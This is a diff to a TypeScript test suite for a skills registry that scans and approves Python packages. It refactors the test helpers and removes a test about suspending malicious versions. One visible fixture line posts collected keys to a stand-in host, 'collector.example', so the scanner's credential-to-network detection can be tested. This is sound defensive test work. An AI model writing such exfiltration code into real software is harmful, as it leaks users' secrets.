@@ -18,7 +18,8 @@ import { parseManifest } from '../../../skills-index/skill/manifest.ts';
 import { rootFingerprint } from '../../../skills-index/trust/root/root.ts';
 import { registryIdOf } from '../../../skills-index/trust/signatures/own-registry.ts';
 import { makePackageWorld } from '../../runner/package-store/package-world.ts';
-import { approve, makeSkill, publish, type Skill, scan } from '../road.ts';
+import { makeSkill, type Skill } from '../road.ts';
+import { approveIn, expectAnswer, publishIn, scanIn } from '../steps.ts';
 import { makeStaffedWorld, type Staffed } from '../world.ts';
 
 let world: Staffed;
@@ -70,10 +71,9 @@ async function lookAt(
   const indexes = { python: { url: `file://${index}` } };
   writeFileSync(join(home, 'host.json'), JSON.stringify({ indexes, advisories }));
   const skill = skillWith(one);
-  expect((await publish(world.send, skill, world.author)).status).toBe(201);
-  const { rita, scanner } = world.tokens;
-  expect((await scan(world.send, scanner, world.scanner, skill, 'pass')).status).toBe(200);
-  expect((await approve(world.send, rita, world.rita, skill)).status).toBe(201);
+  await expectAnswer(publishIn(world, skill), 201);
+  await expectAnswer(scanIn(world, skill), 200);
+  await expectAnswer(approveIn(world, skill), 201);
   const stop = new AbortController();
   const lines: string[] = [];
   await workJobs({
@@ -143,14 +143,6 @@ urllib.request.urlopen('https://collector.example/', data=keys)
   expect((await listDoubts(world.registry)).map(({ why }) => why)).toEqual([
     expect.stringContaining('flow/credential-file-to-network at tool/__init__.py:3'),
   ]);
-});
-
-it('a malicious package suspends the version', async () => {
-  const { index, wheel } = makePackageWorld();
-  const one = wheel('tool', {});
-  await lookAt(one, { index, advisory: 'MAL-2026-1' });
-  const answer = await world.send('/api/v1/versions/@acme/words/1.0.0');
-  expect(await answer.json()).toMatchObject({ status: 'suspended' });
 });
 
 it('a package that no index has is remembered with the reason', async () => {
